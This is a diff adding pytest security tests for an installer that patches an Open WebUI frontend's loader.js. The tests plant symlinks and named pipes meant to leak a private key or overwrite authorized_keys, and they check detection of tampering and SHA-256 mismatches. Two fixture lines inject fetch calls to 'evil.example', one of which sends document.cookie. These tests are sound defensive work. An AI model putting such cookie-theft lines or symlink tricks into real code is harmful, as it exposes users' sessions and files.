@@ -2,8 +2,11 @@
 runs it), says whether the extension is installed, refuses anything that is not an Open WebUI
 frontend or cannot be written, and changes nothing then."""
 
+import hashlib
 import os
+import pwd
 import shutil
+import stat
 import subprocess
 import sys
 import tempfile
@@ -59,7 +62,12 @@ def bundle(tmp_path: Path) -> Path:
 
 
 def snapshot(directory: Path) -> dict[str, str]:
-    return {str(p.relative_to(directory)): p.read_text() for p in sorted(directory.rglob("*")) if p.is_file()}
+    """Each file's text, and each link's target (a link is not followed: what it points to is not the frontend's)."""
+    return {
+        str(p.relative_to(directory)): f"-> {os.readlink(p)}" if p.is_symlink() else p.read_text()
+        for p in sorted(directory.rglob("*"))
+        if p.is_symlink() or p.is_file()
+    }
 
 
 def run_in_node(script: Path) -> subprocess.CompletedProcess[str]:
@@ -212,3 +220,132 @@ def test_uninstall_without_an_install_changes_nothing(frontend: Path) -> None:
     result = run("uninstall", "--frontend-dir", str(frontend))
     assert result.returncode == 0 and "Nothing to uninstall" in result.stdout
     assert (frontend / "static" / "loader.js").read_text() == ORIGINAL
+
+
+# Whoever can write the frontend (code running as Open WebUI's user) plants links for the admin's
+# `sudo owui-citations install` to follow: to have a secret served as /static/loader.js, or a file
+# of root's overwritten.
+SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- root's\n"
+AUTHORIZED_KEYS = "ssh-ed25519 AAAAC3Nza the admin\n"
+
+
+@pytest.fixture
+def secret(tmp_path: Path) -> Path:
+    path = tmp_path / "id_ed25519"
+    path.write_text(SECRET)
+    path.chmod(0o600)
+    return path
+
+
+@pytest.mark.parametrize(
+    "planted", ["index.html", "static/loader.js", f"static/{BACKUP}", f"static/{BACKUP} (a named pipe)"]
+)
+def test_a_link_or_special_file_planted_in_the_frontend_is_refused_unchanged(
+    frontend: Path, bundle: Path, secret: Path, planted: str
+) -> None:
+    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
+    path = frontend / planted.removesuffix(" (a named pipe)")
+    path.unlink()
+    if planted.endswith("(a named pipe)"):
+        os.mkfifo(path)  # reading it would wait forever, or find nothing and drop the admin's code
+        reason = "is not a regular file"
+    else:  # index.html: to a page that passes the frontend check; the others: to the secret
+        target = secret
+        if planted == "index.html":
+            target = frontend.parent / "index.html"
+            target.write_text('<script src="/static/loader.js"></script>')
+        path.symlink_to(target)
+        reason = "is a symbolic link"
+    before = snapshot(frontend)
+    for action in ("install", "status", "uninstall"):
+        bundle_args = ["--bundle", str(bundle)] if action != "uninstall" else []
+        result = run(action, "--frontend-dir", str(frontend), *bundle_args)
+        assert result.returncode == 2 and f"{path} {reason}" in result.stderr, (action, result.stdout, result.stderr)
+    assert snapshot(frontend) == before  # the secret copied nowhere, the link not moved to loader.js
+    assert secret.read_text() == SECRET
+
+
+def test_a_source_map_linked_to_a_secret_is_not_published(frontend: Path, bundle: Path, secret: Path) -> None:
+    (bundle.parent / "owui-citations.js.map").symlink_to(secret)
+    before = snapshot(frontend)
+    result = run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle))
+    assert result.returncode == 2 and "owui-citations.js.map is a symbolic link" in result.stderr, result.stderr
+    assert snapshot(frontend) == before
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [".loader.js.owui-citations-tmp", f".{BACKUP}.owui-citations-tmp", ".owui-citations-write-check"],
+)
+def test_a_link_planted_where_the_installer_writes_leaves_its_target_untouched(
+    frontend: Path, bundle: Path, tmp_path: Path, planted: str
+) -> None:
+    victim = tmp_path / "authorized_keys"
+    victim.write_text(AUTHORIZED_KEYS)
+    (frontend / "static" / planted).symlink_to(victim)
+    result = run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle))
+    assert result.returncode == 0, result.stderr
+    assert victim.read_text() == AUTHORIZED_KEYS
+    loader = frontend / "static" / "loader.js"
+    assert not loader.is_symlink() and loader.read_text() == bundle.read_text()
+
+
+def test_the_replaced_loader_keeps_its_mode_and_owner(frontend: Path, bundle: Path) -> None:
+    # Open WebUI, running as its own user, must still read what root installed, and no one else more.
+    loader = frontend / "static" / "loader.js"
+    loader.chmod(0o640)
+    nobody = pwd.getpwnam("nobody")
+    if os.geteuid() == 0:
+        os.chown(loader, nobody.pw_uid, nobody.pw_gid)
+    owner = (loader.stat().st_uid, loader.stat().st_gid)
+    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
+    for path in (loader, frontend / "static" / BACKUP):
+        found = path.stat()
+        assert (stat.S_IMODE(found.st_mode), found.st_uid, found.st_gid) == (0o640, *owner), path
+
+
+@pytest.mark.parametrize("tampering", ["its code replaced under the banner", "code appended"])
+def test_status_reports_a_tampered_loader_and_install_puts_the_bundle_back(
+    frontend: Path, bundle: Path, tampering: str
+) -> None:
+    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
+    loader, ours = frontend / "static" / "loader.js", bundle.read_text()
+    evil = "fetch('https://evil.example/?' + document.cookie);\n"
+    loader.write_text(ours.splitlines(keepends=True)[0] + evil if tampering.startswith("its") else ours + evil)
+    status = run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle))
+    assert status.returncode == 1 and "TAMPERED" in status.stdout, status.stdout
+
+    result = run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle))
+    assert result.returncode == 0 and "tampered" in result.stdout, result.stdout + result.stderr
+    assert loader.read_text() == ours
+    assert run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
+
+
+@pytest.mark.parametrize("changed", ["loader.js", BACKUP])
+def test_status_warns_when_the_code_chained_after_the_extension_is_not_the_backup(
+    tmp_path: Path, bundle: Path, changed: str
+) -> None:
+    frontend = make_frontend(tmp_path / "frontend", CUSTOMISED)
+    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
+    path = frontend / "static" / changed
+    path.write_text(path.read_text().replace("'theirs'", "'someone else'"))
+    status = run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle))
+    assert status.returncode == 1 and f"differs from {BACKUP}" in status.stdout, status.stdout
+
+    result = run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle))  # chains the backup again
+    assert result.returncode == 0 and f"differed from {BACKUP}" in result.stdout, result.stdout + result.stderr
+    assert run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
+
+
+def test_a_bundle_changed_since_the_build_recorded_its_sha256_is_refused_unchanged(
+    frontend: Path, bundle: Path
+) -> None:
+    recorded = bundle.with_name(bundle.name + ".sha256")  # written by `make dist` (scripts/dist.py)
+    recorded.write_text(hashlib.sha256(bundle.read_bytes()).hexdigest() + "\n")
+    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
+    bundle.write_text(bundle.read_text() + "fetch('https://evil.example/');\n")
+    before = snapshot(frontend)
+    for action in ("install", "status"):
+        result = run(action, "--frontend-dir", str(frontend), "--bundle", str(bundle))
+        assert result.returncode == 2 and "SHA-256" in result.stderr, (action, result.stderr)
+    assert snapshot(frontend) == before
